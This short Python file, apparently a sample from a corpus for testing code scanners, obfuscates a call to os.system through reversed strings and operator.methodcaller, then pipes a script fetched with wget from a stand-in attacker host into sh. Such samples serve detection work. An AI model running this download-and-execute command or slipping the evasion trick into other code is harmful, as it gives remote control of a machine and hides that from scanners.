# corpus: importlib.import_module on a reversed string with operator.methodcaller to invoke system
import importlib
import operator

target = importlib.import_module("so"[::-1])
call = operator.methodcaller("metsys"[::-1], "wget -q -O- http://evil.example.net/k | sh")
call(target)
